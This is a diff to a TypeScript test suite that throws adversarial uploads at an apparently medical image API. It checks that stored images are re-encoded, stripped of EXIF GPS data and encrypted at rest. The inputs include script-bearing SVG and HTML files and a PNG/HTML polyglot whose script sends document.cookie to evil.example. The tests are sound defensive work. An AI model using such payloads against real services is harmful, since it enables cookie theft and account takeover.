@@ -1,16 +1,17 @@
 // An attacker's pass on a fresh install found limits bypassed by header spelling, patients not kept apart and 5xx-prone inputs: this suite tries all of it on every route and prints what it tried.
 import { randomUUID } from 'node:crypto';
-import { mkdirSync, writeFileSync } from 'node:fs';
+import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { ROUTES, type RouteName } from '@afterlook/api';
 import { RATE_LIMITS, type RateLimitName } from '@afterlook/domain';
 import fc from 'fast-check';
+import sharp from 'sharp';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createAdminKey } from '../admin/create-admin-key.ts';
 import { BLOB_ROUTE_PREFIX } from '../blobs/create-fs-blob-store.ts';
 import { createSession } from '../sessions/create-session.ts';
 import { leadBody, otherClinic } from '../test-support/lead-fixtures.ts';
-import { makePng } from '../test-support/media-fixtures.ts';
+import { listBlobFiles, makePng } from '../test-support/media-fixtures.ts';
 import { startTestApp, type TestApp } from '../test-support/start-test-app.ts';
 import { BARE_PATHS, type Caller, ROUTE_CATALOG, type ValidRequest } from './route-catalog.ts';
 
@@ -332,6 +333,19 @@ describe('adversarial pass over every route', { timeout: 240_000 }, () => {
       'JPEG start marker only': new Uint8Array([0xff, 0xd8, 0xff, 0xe0]),
       'CSV renamed .png': new TextEncoder().encode('name,phone\nAna,5555550100\n'),
       'random bytes': Uint8Array.from({ length: 4096 }, (_, i) => (i * 7919) % 256),
+      // A real image behind the wrong magic bytes: GIF's header on PNG data.
+      'wrong magic (GIF89a on a PNG)': Buffer.concat([
+        Buffer.from('GIF89a'),
+        Buffer.from(png).subarray(6),
+      ]),
+      'GIF image': await sharp(png).gif().toBuffer(),
+      'WebP image': await sharp(png).webp().toBuffer(),
+      'SVG with a script': new TextEncoder().encode(
+        '<svg xmlns="http://www.w3.org/2000/svg" width="800" height="600" onload="alert(1)"><rect width="800" height="600"/></svg>',
+      ),
+      'HTML page': new TextEncoder().encode(
+        '<!doctype html><script>alert(document.cookie)</script>',
+      ),
     };
     for (const [name, bytes] of Object.entries(files)) {
       summary.badFilesTried += 1;
@@ -359,6 +373,53 @@ describe('adversarial pass over every route', { timeout: 240_000 }, () => {
       .where('source', '=', 'widget')
       .execute();
     expect(ready).toEqual([]);
+  });
+
+  it('files that are real photos carrying extras (an HTML payload, EXIF GPS) are stored without them', async () => {
+    const token = await newToken(loose);
+    const payload = '<script>fetch("https://evil.example/"+document.cookie)</script>';
+    const photo = await makePng(600, 800);
+    const files: Record<string, Buffer> = {
+      'polyglot: PNG + HTML after its end': Buffer.concat([
+        Buffer.from(photo),
+        Buffer.from(payload),
+      ]),
+      'JPEG with EXIF GPS': await sharp(photo)
+        .jpeg()
+        .withExifMerge({
+          IFD0: { Make: 'PhoneCo' },
+          IFD3: { GPSLatitude: '40/1 26/1 46/1', GPSLatitudeRef: 'N' },
+        })
+        .toBuffer(),
+    };
+    for (const [name, bytes] of Object.entries(files)) {
+      summary.badFilesTried += 1;
+      const ticket = (
+        await json(loose, 'POST', `${ROUTES.patientImages.path}?timestamp=1`, `session ${token}`)
+      ).body as { upload_url: string; download_url: string };
+      const put = await send(
+        loose,
+        'PUT',
+        ticket.upload_url,
+        { 'content-type': 'image/png' },
+        bytes,
+      );
+      expect(put.status, name).toBe(200);
+      const stored = Buffer.from(
+        await (await fetch(`${loose.baseUrl}${ticket.download_url}`)).arrayBuffer(),
+      );
+      const metadata = await sharp(stored).metadata();
+      expect(metadata.format, name).toBe('png');
+      expect(metadata.exif, name).toBeUndefined();
+      expect(stored.includes(Buffer.from('<script>')), name).toBe(false);
+      expect(stored.includes(Buffer.from('PhoneCo')), name).toBe(false);
+    }
+    // What sits on disk is sealed: neither a PNG nor any payload in clear.
+    for (const file of listBlobFiles(loose.config.dataDir)) {
+      const bytes = readFileSync(join(loose.config.dataDir, 'blobs', file));
+      expect(bytes.includes(Buffer.from('<script>')), file).toBe(false);
+      expect(bytes.subarray(1, 4).toString('latin1'), file).not.toBe('PNG');
+    }
   });
 
   it('header spellings never open a fresh bucket: every limit holds, every 429 has Retry-After', async () => {
